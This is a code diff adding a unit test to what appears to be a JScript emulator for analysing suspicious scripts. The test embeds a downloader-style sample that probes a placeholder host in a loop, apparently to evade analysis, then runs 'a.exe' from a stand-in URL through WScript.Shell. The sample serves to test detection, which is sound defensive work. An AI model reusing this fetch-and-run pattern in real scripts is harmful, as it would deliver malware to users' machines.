@@ -295,3 +295,15 @@ def test_a_script_of_megabytes():
     junk = "".join(f"function g{n}(){{return {dice.randrange(1 << 30)}}}\n" for n in range(40_000))
     command = one_character_a_function(dice, "a.example.test")
     assert said(f"{junk}WScript.Echo({command})") == ["a.example.test"]
+
+
+def test_an_address_that_must_not_be_there():
+    source = """
+    function ask(url) { var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", url, false); x.send(); return x.status == 200 }
+    while (ask("http://nobody.example.test/")) { }
+    if (ask("http://files.example.test/a.exe")) new ActiveXObject("WScript.Shell").Run("a.exe");
+    """
+    found = []
+    with pytest.raises(LimitReached):
+        evaluate(Script((source,), "a.js"), Budget(Limits(seconds=30)), found.append)
+    assert effects(found, "run") == ["a.exe"]
